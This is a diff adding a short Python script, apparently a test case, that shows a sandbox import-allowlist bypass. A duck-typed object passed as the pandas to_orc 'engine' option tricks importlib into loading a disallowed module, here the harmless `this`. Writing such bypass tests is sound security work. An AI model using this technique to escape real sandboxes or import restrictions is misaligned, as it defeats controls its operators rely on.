@@ -1,0 +1,20 @@
+# source: pandas 1.5.3 pandas/io/orc.py to_orc (engine != "pyarrow" then import_optional_dependency(engine)) and importlib.import_module (name.startswith, name[level:]): duck typing
+# family: object whose comparison the script controls, passed as a library option name that reaches an import (engine in a literal-key dict spread **opts)
+# goal: imports the module `this` (prints the Zen of Python), a module outside the allowed list
+import pandas as pd
+
+
+class Engine:
+    def __ne__(self, other):
+        return False
+
+    def startswith(self, prefix):
+        return False
+
+    def __getitem__(self, key):
+        return "this"
+
+
+opts = {"engine": Engine()}
+df = pd.DataFrame({"a": [1, 2]})
+df.to_orc("out.orc", **opts)
